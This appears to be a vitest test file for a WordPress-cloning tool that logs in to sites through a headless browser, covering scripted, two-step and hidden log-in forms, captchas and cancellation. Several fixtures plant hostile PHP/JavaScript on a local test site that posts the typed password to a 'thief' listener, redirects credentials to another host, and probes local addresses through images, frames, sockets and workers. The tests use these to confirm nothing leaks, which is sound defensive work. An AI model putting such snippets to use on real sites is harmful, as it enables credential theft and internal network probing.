import { execFileSync } from 'node:child_process';
import { existsSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, expect, test } from 'vitest';
import { toWpcloneError, WpcloneError } from '../../src/shared/errors.ts';
import { connectSource, disconnectSource } from '../../src/site/connect/connect.ts';
import { asAdmin, connectDeps, listen, requestsTo, traces } from '../support/connecting.ts';
import type { Source, SourceOptions } from '../support/source/index.ts';
import { sourcesOnOneServer } from '../support/source/one-server.ts';
import { makeTemp } from '../support/temp.ts';
import { failureOf } from '../support/work.ts';

const startSource = sourcesOnOneServer();

let source: Source | undefined;
const start = async (options: SourceOptions): Promise<Source> => (source = await startSource(options));
afterEach(async () => {
  await source?.stop();
  source = undefined;
});

/** Browsers among the children of this process. */
const browsers = (): string[] =>
  execFileSync('ps', ['-o', 'comm=', '--ppid', String(process.pid)])
    .toString()
    .split('\n')
    .filter((name) => /chrom/i.test(name));

test.each([
  ['is made by a script, with fields of its own', { scriptedLogin: 'built' }],
  ['carries something that only a script can put in', { scriptedLogin: 'token' }],
  ['has moved and needs a script', { movedLogin: 'linked', scriptedLogin: 'token' }],
  ['asks for the password on a second page', { twoStepLogin: 'next' }],
  ['shows the field for the password after the name', { twoStepLogin: 'same' }],
  ['needs a script, behind a certificate that nobody vouches for', { scriptedLogin: 'token', https: true }],
] satisfies [string, SourceOptions][])(
  'a source whose log-in form %s is connected with a browser',
  async (_, options) => {
    const site = await start(options);
    const request = asAdmin(site, { insecureTls: 'https' in options });
    const connection = await connectSource(request, connectDeps());
    expect(connection).toMatchObject({ way: 'browser', installedNow: true, access: { url: site.url } });
    expect(connection.info.home).toBe(site.url);
    expect(browsers()).toEqual([]);

    expect(await disconnectSource({ ...request, known: connection.access }, connectDeps())).toBe(true);
    expect(await traces(site)).toEqual([]);
  },
);

test('a hidden log-in page that needs a script is found with --login-url', async () => {
  const site = await start({ movedLogin: 'unlinked', scriptedLogin: 'token' });
  const connection = await connectSource(asAdmin(site, { loginUrl: site.loginUrl }), connectDeps());
  expect(connection.way).toBe('browser');
});

test('a log-in form that a browser does not send, since it wants more than a name and a password, is told of with what it wants', async () => {
  const terms = `<?php add_action( 'login_form', function () { echo '<label><input type="checkbox" name="agree" required> I agree to the terms</label>'; } );
    add_filter( 'authenticate', function ( $user ) { return $_POST && empty( $_POST['agree'] ) ? new WP_Error( 'terms', 'Agree first.' ) : $user; }, 99 );`;
  const site = await start({ muPlugins: { 'terms.php': terms } });
  const error = await failureOf(connectSource(asAdmin(site), connectDeps()));
  expect(error).toMatchObject({
    code: 'LOGIN_FAILED',
    message: 'The site refused the log-in. The form also asks for: I agree to the terms',
  });
});

test('a log-in page that is nowhere to be found is asked for', async () => {
  const site = await start({ movedLogin: 'unlinked' });
  const error = await failureOf(connectSource(asAdmin(site), connectDeps()));
  expect(error).toMatchObject({
    code: 'LOGIN_PAGE_NOT_FOUND',
    message: expect.stringContaining('/wp-login.php') as unknown,
  });
  expect(error.nextSteps.join()).toContain('--login-url');
});

test('a page that takes the focus away while its fields are filled is filled again', async () => {
  const restless = `<?php add_action( 'login_footer', function () { ?><script>
    var user = document.getElementById( 'user_login' ), word = document.getElementById( 'user_pass' );
    word.addEventListener( 'focus', function () { user.focus(); user.select(); }, { once: true } );
    word.addEventListener( 'input', function () { word.value = ''; }, { once: true } );
    </script><?php }, 99 );`;
  const site = await start({ scriptedLogin: 'token', muPlugins: { 'restless.php': restless } });
  expect(await connectSource(asAdmin(site), connectDeps())).toMatchObject({ way: 'browser' });
});

test('a wrong password in a scripted form says what the site says', async () => {
  const site = await start({ scriptedLogin: 'built' });
  const request = { ...asAdmin(site), password: () => Promise.resolve('Not-the-password-1') };
  const error = await failureOf(connectSource(request, connectDeps()));
  expect(error.code).toBe('LOGIN_FAILED');
  expect(error.message).toContain('is incorrect');
  expect(error.message).not.toContain('Not-the-password');
  expect(browsers()).toEqual([]);
});

test('a name that a form in two steps does not know is refused in the site’s words', async () => {
  const site = await start({ twoStepLogin: 'next' });
  const error = await failureOf(connectSource(asAdmin(site, { username: 'nobody' }), connectDeps()));
  expect(error.code).toBe('LOGIN_FAILED');
  expect(error.message).toContain('We do not know anybody of that name.');
});

test('a wrong password in the second step says what the site says', async () => {
  const site = await start({ twoStepLogin: 'next' });
  const request = asAdmin(site, { password: () => Promise.resolve('Not-the-password-1') });
  const error = await failureOf(connectSource(request, connectDeps()));
  expect(error.code).toBe('LOGIN_FAILED');
  expect(error.message).toContain('is incorrect');
});

test('a page that asks for a name for another purpose does not keep us from the log-in page', async () => {
  const directory = `<?php
    add_action( 'loop_start', function () { echo '<a href="' . home_url( '/?directory=1' ) . '">Members</a>'; } );
    add_action( 'init', function () { if ( isset( $_GET['directory'] ) ) { echo '<form><input type="hidden" name="directory" value="1"><input name="user_like"><button>Find</button></form><p role="alert">' . ( isset( $_GET['user_like'] ) ? 'Found nobody.' : '' ) . '</p>'; exit; } } );`;
  const site = await start({ twoStepLogin: 'next', muPlugins: { 'directory.php': directory } });
  expect(await connectSource(asAdmin(site), connectDeps())).toMatchObject({ way: 'browser' });
  expect(requestsTo(site)).toContain(`GET /?directory=1&user_like=${site.adminUser}`);
});

test('a second factor behind a scripted form is recognised', async () => {
  const site = await start({ scriptedLogin: 'token', secondFactor: 'page' });
  expect((await failureOf(connectSource(asAdmin(site), connectDeps()))).code).toBe('SECOND_FACTOR');
});

test('a captcha is named', async () => {
  const captcha = `<?php
    add_action( 'login_form', function () { echo '<div class="g-recaptcha"></div>'; } );
    add_filter( 'authenticate', function ( $user ) { return isset( $_POST['log'] ) ? new WP_Error( 'captcha', 'Are you a robot?' ) : $user; }, 99 );`;
  const site = await start({ muPlugins: { 'captcha.php': captcha } });
  const error = await failureOf(connectSource(asAdmin(site), connectDeps()));
  expect(error.code).toBe('CAPTCHA');
  expect(error.message).toContain('Are you a robot?');
});

test('the password goes to no other host from a scripted form either', async () => {
  const thief = await listen((_, response) => response.writeHead(200, { 'access-control-allow-origin': '*' }).end());
  const leak = `<?php add_action( 'login_init', function () { ?>
    <!doctype html><form id="f"><input type="text" name="user"><input type="password" name="word"><button>Go</button></form>
    <script>f.onsubmit = function (e) { e.preventDefault(); fetch("${thief.url('localhost')}/", { method: "POST", body: f.word.value }); };</script>
    <?php exit; } );`;
  try {
    const site = await start({ muPlugins: { 'leak.php': leak } });
    const error = await failureOf(connectSource(asAdmin(site), connectDeps()));
    expect(error.code).toBe('LOGIN_FAILED');
    expect(error.message).toContain(thief.url('localhost'));
    expect(thief.received).toEqual([]);
  } finally {
    await thief.close();
  }
});

test('nothing is filled into a page of another host that the log-in page leads to', async () => {
  const page = `<!doctype html><form id="f"><input type="text" name="user"><input type="password" name="word"><button>Go</button></form>
    <script>setInterval(function () { if (f.user.value || f.word.value) { fetch('/taken'); } }, 10);</script>`;
  const thief = await listen((_, response) => response.setHeader('content-type', 'text/html').end(page));
  const away = `<?php add_action( 'login_init', function () { header( 'Location: ${thief.url('localhost')}/' ); exit; } );`;
  try {
    const site = await start({ muPlugins: { 'away.php': away } });
    const error = await failureOf(connectSource(asAdmin(site), connectDeps()));
    expect(error.code).toBe('LOGIN_PAGE_NOT_FOUND');
    const { host } = new URL(thief.url('localhost'));
    expect(error.message).toMatch(`Visitors are led to ${host} to log in.`);
    expect(error.nextSteps.join()).toContain(`beside that of ${host}`);
    expect(thief.received).toEqual([]);
  } finally {
    await thief.close();
  }
});

test.for([
  ['a script of it leads', `echo '<script>location = "https://sso.example/in?token=1"</script>';`],
  ['a link of it leads', `echo '<p><a href="https://sso.example/in?token=1">Sign in with Example</a></p>';`],
])('where the log-in page has no form and %s to another host, that host is named', async ([, code]) => {
  const site = await start({
    muPlugins: { 'sso.php': `<?php add_action( 'login_init', function () { ${code} exit; } );` },
  });
  const error = await failureOf(connectSource(asAdmin(site), connectDeps()));
  expect(error).toMatchObject({
    code: 'LOGIN_PAGE_NOT_FOUND',
    message: expect.stringMatching(/wp-login\.php\. Visitors are led to sso\.example to log in\.$/) as unknown,
  });
});

test('a browser at a log-in page reaches no other address of this machine, by whatever way the page tries', async () => {
  const inside = await listen((_, response) => response.end());

  const to = (host: string, way: string): string => `${inside.url(host)}/${way}`;
  const curious = `<?php
    add_action( 'init', function () { if ( isset( $_GET['away'] ) ) { header( 'Location: ' . $_GET['away'], true, 307 ); exit; } } );
    add_action( 'login_footer', function () { ?>
      <img src="${to('localhost', 'image')}"><img src="/?away=${to('localhost', 'redirected-image')}">
      <iframe src="/?away=${to('localhost', 'redirected-frame')}"></iframe>
      <script>
        new WebSocket( '${to('localhost', 'socket').replace('http', 'ws')}' );
        var work = "new WebSocket('${to('localhost', 'worker-socket').replace('http', 'ws')}'); fetch('${to('localhost', 'worker')}', { mode: 'no-cors' });";
        new Worker( URL.createObjectURL( new Blob( [ work ] ) ) );
        window.open( '${to('localhost', 'window')}' );
        fetch( '/?away=${to('localhost', 'redirected')}', { method: 'POST', body: 'x', mode: 'no-cors' } );
      </script><?php } );`;
  try {
    const site = await start({ scriptedLogin: 'token', muPlugins: { 'curious.php': curious } });
    expect(await connectSource(asAdmin(site), connectDeps())).toMatchObject({ way: 'browser' });
    expect(requestsTo(site).join()).toContain('redirected-image');
    expect(inside.received).toEqual([]);
  } finally {
    await inside.close();
  }
});

test('a form whose target passes the password on to another host is stopped', async () => {
  const thief = await listen((_, response) => response.end());
  const pass = `<?php add_action( 'login_init', function () {
    if ( $_SERVER['REQUEST_METHOD'] === 'POST' ) { header( 'Location: ${thief.url('localhost')}/taken', true, 307 ); exit; } } );`;
  try {
    const site = await start({ scriptedLogin: 'built', muPlugins: { 'pass.php': pass } });
    const error = await failureOf(connectSource(asAdmin(site), connectDeps()));
    expect(error.code).toBe('LOGIN_FAILED');
    expect(thief.received).toEqual([]);
  } finally {
    await thief.close();
  }
});

test('a machine without Chromium says so', async () => {
  const site = await start({ scriptedLogin: 'built' });
  const empty = mkdtempSync(join(tmpdir(), 'no-browser-'));
  try {
    const error = await failureOf(connectSource(asAdmin(site), connectDeps({ environment: { PATH: empty } })));
    expect(error.code).toBe('BROWSER_MISSING');
  } finally {
    rmSync(empty, { recursive: true });
  }
});

test('a log-in page whose script never ends is given up', async () => {
  const endless = `<?php add_action( 'login_footer', function () { ?><script>
    loginform.onsubmit = function ( e ) { e.preventDefault(); setTimeout( function () { for (;;); }, 300 ); };
    </script><?php }, 99 );`;
  const site = await start({ scriptedLogin: 'token', muPlugins: { 'endless.php': endless } });
  const deps = connectDeps();
  const hurried = { ...deps, sleep: (ms: number, stop?: AbortSignal) => deps.sleep(ms / 10, stop) };
  const error = await failureOf(connectSource(asAdmin(site), hurried));
  expect(error.code).toBe('LOGIN_PAGE_NOT_FOUND');
  expect(error.message).toContain('without end');
  await expect.poll(browsers).toEqual([]);
});

test('a cancelled run does not wait for a browser that does not come up', async () => {
  const site = await start({ scriptedLogin: 'built' });
  const asked = join(makeTemp('browser'), 'asked');
  const program = `${asked}.sh`;
  writeFileSync(program, `#!/bin/sh\ntouch ${asked}\nexec sleep 600\n`, { mode: 0o755 });
  const stop = new AbortController();
  const environment = { ...process.env, WPCLONE_CHROMIUM: program };
  const ended = failureOf(connectSource(asAdmin(site), connectDeps({ environment, signal: stop.signal })));
  await expect.poll(() => existsSync(asked)).toBe(true);
  stop.abort(new WpcloneError('CANCELLED', 'Cancelled.'));
  expect((await ended).code).toBe('CANCELLED');
});

test('a cancelled run closes the browser at once', async () => {
  const site = await start({ scriptedLogin: 'built' });
  const stop = new AbortController();
  const deps = connectDeps({ signal: stop.signal });
  const ended = connectSource(asAdmin(site), deps).then(
    () => undefined,
    (error: unknown) => toWpcloneError(error).code,
  );
  await expect.poll(browsers).not.toEqual([]);
  stop.abort();
  expect(await ended).toBe('CANCELLED');
  await expect.poll(browsers).toEqual([]);
  expect(await traces(site)).toEqual([]);
});
